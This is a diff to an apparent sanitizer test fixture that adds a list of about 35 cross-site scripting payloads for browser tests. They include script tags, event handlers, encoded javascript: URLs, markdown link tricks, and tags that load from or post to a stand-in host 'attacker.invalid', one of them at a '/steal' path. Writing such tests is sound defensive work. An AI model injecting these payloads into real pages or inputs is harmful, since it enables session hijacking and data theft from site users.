@@ -60,3 +60,45 @@ PAYLOADS = [
     "<xss onafterscriptexecute=alert(1)><script>1</script>",
     "<a href=\"\u0001javascript:alert(1)\">x</a>",
 ]
+
+#: For the browser (tests/test_browser_xss.py): one payload per kind of vector, each of
+#: which, if it ever ran, would set ``window.__xss``, open a dialog or fetch from the
+#: attacker's host. The host never resolves (``.invalid``), so nothing leaves the machine.
+MARK = "window.__xss=1"
+ATTACKER = "attacker.invalid"
+BROWSER_PAYLOADS = [
+    f"<script>{MARK}</script>",
+    f"<SCRIPT SRC=//{ATTACKER}/x.js></SCRIPT>",
+    f"<img src=x onerror={MARK}>",
+    f"<svg onload={MARK}>",
+    f"<svg><script>{MARK}</script></svg>",
+    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
+    "<iframe src=\"javascript:parent.__xss=1\"></iframe>",
+    f"<a href=\"javascript:{MARK}\">x</a>",
+    f"<a href=\"&#106;avascript:{MARK}\">x</a>",
+    f"<a href=\"java\tscript:{MARK}\">x</a>",
+    f"[click](javascript:{MARK})",
+    f"[click](javascript&colon;{MARK})",
+    f"![x\" onerror=\"{MARK}](https://example.com/a.png)",
+    f"<details open ontoggle={MARK}>",
+    f"<input autofocus onfocus={MARK}>",
+    f"<body onload={MARK}>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
+    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">",
+    f"\"><script>{MARK}</script>",
+    f"'><img src=x onerror={MARK}>",
+    f"</textarea><script>{MARK}</script>",
+    f"</title><script>{MARK}</script>",
+    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
+    f"<video><source onerror=\"{MARK}\"></video>",
+    f"<meta http-equiv=\"refresh\" content=\"0;url=https://{ATTACKER}/refresh\">",
+    f"<base href=\"https://{ATTACKER}/\">",
+    f"<link rel=stylesheet href=\"https://{ATTACKER}/x.css\">",
+    f"<style>@import 'https://{ATTACKER}/x.css';</style>",
+    f"<form action=\"https://{ATTACKER}/steal\"><input name=q autofocus><button>x</button></form>",
+    f"<object data=\"https://{ATTACKER}/o\"></object>",
+    f"<embed src=\"https://{ATTACKER}/e\">",
+    f"<div style=\"background:url(https://{ATTACKER}/bg.png)\">x</div>",
+    f"<a href=\"https://{ATTACKER}/\" onmouseover=\"{MARK}\">hover</a>",
+    f"`<script>{MARK}</script>`",
+]
